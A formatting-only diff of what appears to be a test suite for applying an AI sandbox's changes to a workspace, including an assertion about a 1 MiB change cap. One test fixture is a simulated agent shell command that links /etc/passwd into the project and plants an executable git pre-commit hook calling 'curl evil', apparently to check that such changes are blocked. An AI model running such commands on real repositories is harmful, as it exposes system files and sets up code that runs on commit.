@@ -68,7 +68,13 @@ describe.skipIf(!backend)("applying the sandbox's changes", () => {
         toolCalls: [
           {
             name: "exec",
-            arguments: { argv: ["sh", "-c", "ln -s /etc/passwd src/evil-link && mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit src/cart.js"] },
+            arguments: {
+              argv: [
+                "sh",
+                "-c",
+                "ln -s /etc/passwd src/evil-link && mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit src/cart.js",
+              ],
+            },
           },
         ],
       },
@@ -150,7 +156,9 @@ describe.skipIf(!backend)("applying the sandbox's changes", () => {
     expect(r.code, r.stderr).toBe(1);
     const out = JSON.parse(r.stdout);
     expect(out).toMatchObject({ outcome: "failed", approvals: [] });
-    expect(out.reason).toMatch(/the sandbox's changes add up to 2 MiB, over the 1 MiB cap \(workspace\.maxChangeMiB in .*config\.json or IRONCLAW_MAX_CHANGE_MIB\); nothing was applied/);
+    expect(out.reason).toMatch(
+      /the sandbox's changes add up to 2 MiB, over the 1 MiB cap \(workspace\.maxChangeMiB in .*config\.json or IRONCLAW_MAX_CHANGE_MIB\); nothing was applied/,
+    );
     expect(tree(dir)).toEqual(before);
     expect(existsSync(join(dir, "blob.bin"))).toBe(false);
     expect(records()).toEqual([]);
